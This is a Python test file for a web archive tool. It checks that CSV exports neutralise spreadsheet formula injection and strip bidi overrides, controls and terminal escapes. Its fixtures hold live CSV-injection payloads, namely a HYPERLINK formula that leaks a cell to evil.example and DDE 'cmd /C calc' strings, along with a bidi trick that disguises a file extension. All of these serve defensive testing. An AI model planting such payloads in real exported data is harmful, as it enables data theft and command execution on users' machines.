"""Every CSV the tool writes opens in a spreadsheet as text: a scraped cell that starts like a formula
(= + - @, tab, CR) gets a leading ' (OWASP), and loses the controls, escape sequences and bidi overrides the
other reports drop, unless `export --raw-csv` asks for the bytes as scraped."""

from __future__ import annotations

import asyncio
import csv
import io

import pytest
from conftest import cli
from helpers import news_entry, record_crawl

from archive.store import Archive

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def formulas(tmp_path):
    path = tmp_path / "f.db"
    with Archive(path) as archive:
        record_crawl(
            archive,
            [
                news_entry(f"WCMS_{n}", title=text, organisers=[text, "ILO"], position=n)
                for n, text in enumerate(FORMULAS, 1)
            ]
            + [news_entry("WCMS_99", title="A plain title", date_text="-", credit_year=-5, position=-3)],
        )
    return path


def rows(text: str) -> dict[str, dict]:
    return {row["entry_id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


def test_export_csv_makes_formulas_text(formulas):
    out = rows(cli("export", "--db", formulas, "--format", "csv", check=0).stdout)
    for n, text in enumerate(FORMULAS, 1):
        shown = text.replace("\r", "")  # a carriage return is a control: dropped, the formula still guarded
        assert out[f"WCMS_{n}"]["title"] == "'" + shown
        assert out[f"WCMS_{n}"]["organisers"] == f"'{shown}; ILO"
    plain = out["WCMS_99"]
    assert plain["title"] == "A plain title" and plain["date_text"] == "'-"  # a string: guarded, as OWASP says
    assert plain["position"] == "-3" and plain["credit_year"] == "-5"  # numbers are numbers


def test_raw_csv_keeps_the_bytes_as_scraped(formulas):
    out = rows(cli("export", "--db", formulas, "--format", "csv", "--raw-csv", check=0).stdout)
    assert [out[f"WCMS_{n}"]["title"] for n in range(1, len(FORMULAS) + 1)] == FORMULAS
    assert out["WCMS_99"]["date_text"] == "-"
    refused = cli("export", "--db", formulas, "--format", "json", "--raw-csv")
    assert refused.returncode == 2 and "--raw-csv" in refused.stderr


def test_serve_csv_makes_formulas_text(formulas):
    from archive.serve import build

    async def fetch(path):
        datasette = build(str(formulas))
        await datasette.invoke_startup()
        return (await datasette.client.get(path)).text

    table = rows(asyncio.run(fetch("/f/entries.csv?_size=max")))
    query = rows(asyncio.run(fetch("/f.csv?sql=select+entry_id,title+from+entries")))
    for n, text in enumerate(FORMULAS, 1):
        assert table[f"WCMS_{n}"]["title"] == query[f"WCMS_{n}"]["title"] == "'" + text.replace("\r", "")
    assert table["WCMS_99"]["position"] == "-3"


def test_scrapy_csv_feed_makes_formulas_text():
    from scrapy.utils.misc import load_object

    from crawler.run import project_settings

    # `scrapy crawl ... -O items.csv` writes with the project's csv exporter.
    FormulaSafeCsvItemExporter = load_object(project_settings().getwithbase("FEED_EXPORTERS")["csv"])
    out = io.BytesIO()
    exporter = FormulaSafeCsvItemExporter(out, fields_to_export=["title", "position"])
    exporter.start_exporting()
    for position, text in enumerate(FORMULAS):
        exporter.export_item({"title": text, "position": -position})
    exporter.finish_exporting()
    got = list(csv.DictReader(io.StringIO(out.getvalue().decode(), newline="")))
    assert [row["title"] for row in got] == ["'" + text.replace("\r", "") for text in FORMULAS]


@pytest.mark.parametrize("start", ["\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "=", "@"])
@pytest.mark.parametrize("space", ["", " ", "  \u00a0"])
def test_fullwidth_and_small_formula_signs_are_made_text_too(start, space):
    from archive.reports.safety import spreadsheet_safe

    cell = f'{space}{start}HYPERLINK("http://evil.example/","x")'
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Annual report", "A report \uff1d text", "\uff21 letter", " plain", 5, None])
def test_a_cell_not_starting_like_a_formula_stays_as_it_is(cell):
    from archive.reports.safety import spreadsheet_safe

    assert spreadsheet_safe(cell) == cell


# A title as an old archive may hold it: bidi isolates and an override (U+2066-2069, U+202A-202E) that make
# "txt.exe" read as "exe.txt", a C1 control, a terminal escape, and an isolate hiding a formula's "=".
HIDDEN = {
    "WCMS_1": ("Report \u2067\u202eexe.txt\u2069 2024", "Report exe.txt 2024"),
    "WCMS_2": ('\u2066=HYPERLINK("http://evil.example/","x")\u2069', '\'=HYPERLINK("http://evil.example/","x")'),
    "WCMS_3": ("Bell\x07 \x1b[31mred\x1b[0m \x85next\u202a\u202c", "Bell red next"),
}


def test_export_csv_drops_what_the_other_reports_drop(tmp_path):
    """Issue 20: the HTML, Markdown and Atom reports dropped these and the CSV export kept them; one function
    (spreadsheet_safe, through for_terminal) now cleans every CSV cell."""
    path = tmp_path / "hidden.db"
    with Archive(path) as archive:
        entries = [
            news_entry(eid, title=raw, organisers=[raw], position=n) for n, (eid, (raw, _)) in enumerate(HIDDEN.items())
        ]
        record_crawl(archive, entries)
    out = rows(cli("export", "--db", path, "--format", "csv", check=0).stdout)
    for eid, (_, shown) in HIDDEN.items():
        assert out[eid]["title"] == out[eid]["organisers"] == shown
    raw = rows(cli("export", "--db", path, "--format", "csv", "--raw-csv", check=0).stdout)
    assert [raw[eid]["title"] for eid in HIDDEN] == [text for text, _ in HIDDEN.values()]
